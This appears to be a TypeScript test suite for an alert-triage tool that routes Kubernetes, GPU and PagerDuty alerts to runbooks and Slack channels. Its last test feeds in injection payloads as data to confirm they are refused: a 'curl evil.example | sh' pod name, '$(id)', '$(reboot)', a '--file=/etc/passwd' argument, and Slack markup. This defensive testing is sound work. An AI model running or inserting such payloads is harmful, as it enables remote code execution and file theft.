// Triage of real-shaped alerts onto the shipped runbooks: which runbook, the channel, the
// severity and the `investigate` tokens /debug accepts; an alert nothing matches still gets a
// plan from its words and a hint naming the rule that would catch it; hostile label values never
// reach the tokens.
import { describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { diagnostics } from '../../jobs/registry.ts';
import { loadRunbooks, validateRunbookSources } from '../../src/runbooks/load-runbooks.ts';
import { planInvestigation } from '../../src/triage/investigation.ts';
import { triageAlert, type TriageDefaults } from '../../src/triage/triage-alert.ts';
import { alertmanagerEvent, kubePodCrashLooping, pagerDutyEvent, recordedAlertmanagerEvent } from './alert-events.ts';

const runbooks = loadRunbooks('runbooks', diagnostics);
const defaults = { incidentChannel: 'C0INCIDENTS' };
const triage = (event: Parameters<typeof triageAlert>[0]) => triageAlert(event, runbooks, diagnostics, defaults);

describe('triageAlert', () => {
  it('sends kube-prometheus-stack\'s KubePodCrashLooping to the model-load runbook with the pod from its labels', () => {
    const d = triage(kubePodCrashLooping('ranker-7d4b9c6f5-x2x9z', 'ml'));
    expect(d).toMatchObject({
      runbook: 'model-load-failure',
      runbookFile: 'runbooks/model-load-failure.yaml',
      matchedBy: 'alertname KubePodCrashLooping',
      channel: 'C0INCIDENTS',
      severity: 'critical',
      categories: ['availability'],
      investigate: ['ml/ranker-7d4b9c6f5-x2x9z', 'crash', 'restarts'],
      notes: [],
    });
    expect(d.hint).toBeUndefined();
    expect(d.variables).toMatchObject({ namespace: 'ml', pod: 'ranker-7d4b9c6f5-x2x9z', container: 'model-server' });
    // The tokens are an investigation /debug runs as it is.
    expect(planInvestigation(d.investigate, diagnostics).steps.map((s) => s.command)).toEqual(['changes ml/ranker-7d4b9c6f5-x2x9z', 'oom ml/ranker-7d4b9c6f5-x2x9z', 'logs ml/ranker-7d4b9c6f5-x2x9z']);
  });

  it('sends a DCGM Xid alert to the GPU runbook, targeting the node from the exporter\'s Hostname label', () => {
    // dcgm-exporter's labels on DCGM_FI_DEV_XID_ERRORS (gpu, UUID, device, modelName, Hostname, driver version; the pod using the GPU).
    const d = triage(
      alertmanagerEvent(
        { alertname: 'GPUXidError', gpu: '0', UUID: 'GPU-5c1c4f3e-6a0b-7a53-2c4e-1f3b0b6c9d21', device: 'nvidia0', modelName: 'NVIDIA A100-SXM4-80GB', Hostname: 'gpu-node-3', DCGM_FI_DRIVER_VERSION: '535.104.05', err_code: '79', namespace: 'ml', pod: 'ranker-7d4b9c6f5-x2x9z', container: 'model-server', severity: 'critical' },
        { summary: 'GPU 0 on gpu-node-3 reported Xid 79', description: 'GPU has fallen off the bus' },
      ),
    );
    expect(d).toMatchObject({ runbook: 'gpu-unavailable', severity: 'critical', investigate: ['gpu-node-3', 'unavailable', '--pod', 'ml/ranker-7d4b9c6f5-x2x9z'] });
    expect(planInvestigation(d.investigate, diagnostics).steps.map((s) => s.command)).toContain('gpu gpu-node-3 --pod ml/ranker-7d4b9c6f5-x2x9z');
  });

  it('sends a latency alert with a service URL annotation to high-latency, and burn-rate alerts by their SLO', () => {
    const d = triage(alertmanagerEvent({ alertname: 'HighRequestLatency', namespace: 'ml', service: 'ranker', pod: 'ranker-1', severity: 'page' }, { service_url: 'http://ranker.ml:8080', summary: 'p99 above 500ms' }));
    expect(d).toMatchObject({ runbook: 'high-latency', severity: 'high', investigate: ['http://ranker.ml:8080', 'slow', '--pod', 'ml/ranker-1'] });
    expect(triage(alertmanagerEvent({ alertname: 'ErrorBudgetBurn', slo: 'ranker-latency', long: '1h', short: '5m', namespace: 'ml', service: 'ranker' })).runbook).toBe('high-latency');
    expect(triage(alertmanagerEvent({ alertname: 'ErrorBudgetBurn', slo: 'ranker-availability', long: '1h', short: '5m', namespace: 'ml', service: 'ranker' })).runbook).toBe('error-burst');
  });

  it('reads kube-state-metrics\' KubeDeploymentRolloutStuck as a deploy regression, the service URL from the deployment (not the exporter\'s service label)', () => {
    // kubernetes-mixin's rule over kube_deployment_status_condition / spec_replicas: kube-state-metrics' labels.
    const d = triage(alertmanagerEvent({ alertname: 'KubeDeploymentRolloutStuck', condition: 'Progressing', container: 'kube-state-metrics', deployment: 'ranker', endpoint: 'http', instance: '10.244.0.12:8080', job: 'kube-state-metrics', namespace: 'ml', service: 'kube-prometheus-stack-kube-state-metrics', severity: 'warning' }, { description: 'Rollout of deployment ml/ranker is not progressing for longer than 15 minutes.', summary: 'Deployment rollout is not progressing.' }));
    expect(d).toMatchObject({ runbook: 'deploy-regression', severity: 'high', investigate: ['ml/deployment/ranker', 'errors', 'slow', '--url', 'http://ranker.ml.svc.cluster.local:8080'] });
    expect(planInvestigation(d.investigate, diagnostics).steps.map((s) => s.command)).toEqual(['changes ml/deployment/ranker', 'health http://ranker.ml.svc.cluster.local:8080']);
  });

  it('gives the recorded Alertmanager alert no rule matches a plan from its words and a hint, without crashing on what it lacks', () => {
    const d = triage(recordedAlertmanagerEvent());
    expect(d.runbook).toBeNull();
    expect(d.categories).toEqual(['memory']);
    expect(d.hint).toBe('No runbook matched alertname "high-memory-usage"; it reads as memory: add match: [{alertname: [high-memory-usage]}] to runbooks/cuda-oom.yaml to catch it.');
    // Its labels name a JVM instance, no pod, node or service URL: nothing to run, said in the notes.
    expect(d.investigate).toEqual([]);
    expect(d.notes.join()).toMatch(/nothing to investigate: the alert names no service URL, pod or node/);
    expect(d.severity).toBe('warning');
  });

  it('plans an unmatched alert from the symptom words of its name and annotations', () => {
    const d = triage(alertmanagerEvent({ alertname: 'RankerResponsesDegraded', namespace: 'ml', pod: 'ranker-1', node: 'gpu-node-2' }, { summary: 'Requests are slow, p99 spikes above 2s' }));
    expect(d.runbook).toBeNull();
    expect(d.categories).toEqual(['latency', 'latency-variance', 'accuracy']);
    expect(d.investigate).toEqual(['ml/ranker-1', 'degraded', 'slow', 'p99', 'spikes', '--node', 'gpu-node-2']);
    expect(d.hint).toContain('runbooks/high-latency.yaml');
    expect(planInvestigation(d.investigate, diagnostics).categories).toEqual(['latency', 'latency-variance', 'accuracy']);
  });

  it('triages the recorded PagerDuty incident.triggered delivery, and one whose title names a CUDA OOM', () => {
    const recorded = triage(pagerDutyEvent());
    expect(recorded).toMatchObject({ runbook: null, severity: 'warning', investigate: [] });
    expect(recorded.hint).toContain('match: [{pagerduty: {service: ["Webhook Tester"]}}]');

    const cuda = triage(pagerDutyEvent({ title: 'CUDA out of memory on ranker-gpu', urgency: 'high', priority: 'P1' }));
    expect(cuda).toMatchObject({ runbook: 'cuda-oom', matchedBy: 'PagerDuty title ~ /CUDA out of memory|CUDA OOM|GPU memory/', severity: 'high', investigate: [] });
    expect(cuda.notes.join()).toMatch(/investigate needs pod/);
    // Without a runbook severity, PagerDuty's priority decides.
    expect(triage(pagerDutyEvent({ priority: 'P1' })).severity).toBe('critical');
  });

  it('routes the thread by PagerDuty service, team label or any label, else INCIDENT_CHANNEL, and says when there is none', () => {
    const rb = { name: 'routed', title: 'Routed', category: 'errors', match: [{ alertname: ['Routed'] }, { pagerduty: { titleRegex: 'routed' } }], channel: { byService: { Ranker: 'C0RANKER' }, byTeam: { search: 'C0SEARCH' }, byLabel: { cluster: { 'prod-eu': 'C0EU' } } }, steps: [{ id: 'look', kind: 'manual', title: 'Look', commands: ['kubectl get pods'] }] };
    const { runbooks: custom, problems } = validateRunbookSources([['runbooks/routed.yaml', stringify(rb)]], diagnostics);
    expect(problems).toEqual([]);
    const route = (e: Parameters<typeof triageAlert>[0], d: TriageDefaults = defaults) => triageAlert(e, custom, diagnostics, d);
    expect(route(pagerDutyEvent({ title: 'routed', service: 'Ranker' })).channel).toBe('C0RANKER');
    expect(route(alertmanagerEvent({ alertname: 'Routed', team: 'search' })).channel).toBe('C0SEARCH');
    expect(route(alertmanagerEvent({ alertname: 'Routed', cluster: 'prod-eu' })).channel).toBe('C0EU');
    expect(route(alertmanagerEvent({ alertname: 'Routed', cluster: 'prod-us' })).channel).toBe('C0INCIDENTS');
    const nowhere = route(alertmanagerEvent({ alertname: 'Routed' }), {});
    expect(nowhere.channel).toBe('');
    expect(nowhere.notes).toContain("no channel for the incident: set INCIDENT_CHANNEL or the runbook's channel.default");
  });

  it('keeps hostile label values out of the investigation: refused with a note, never a token', () => {
    for (const pod of ['x; curl http://evil.example | sh', '$(id)', '--file=/etc/passwd', '<!channel>', 'a b']) {
      const d = triage(alertmanagerEvent({ alertname: 'KubePodCrashLooping', namespace: 'ml', pod, node: '$(reboot)' }));
      expect(d.runbook).toBe('model-load-failure');
      expect(JSON.stringify(d).includes(pod), pod).toBe(false);
      expect(JSON.stringify(d)).not.toContain('$(reboot)');
      expect(d.notes.join(), pod).toMatch(/pod: the value from labels\.pod was refused/);
      expect(d.investigate).toEqual([]);
    }
    // An alertname is any string to Alertmanager: what the thread shows of it carries no Slack markup.
    const oom = triage(alertmanagerEvent({ alertname: 'OOM <!channel> <https://evil.example|click>' }));
    expect(oom.runbook).toBe('oom-killed');
    const unmatched = triage(alertmanagerEvent({ alertname: 'Zzz <!here>' }));
    for (const d of [oom, unmatched]) expect(JSON.stringify(d)).not.toMatch(/[<>]|!here|!channel/);
    expect(unmatched.hint).toContain('alertname "Zzz ??here?"');
  });
});
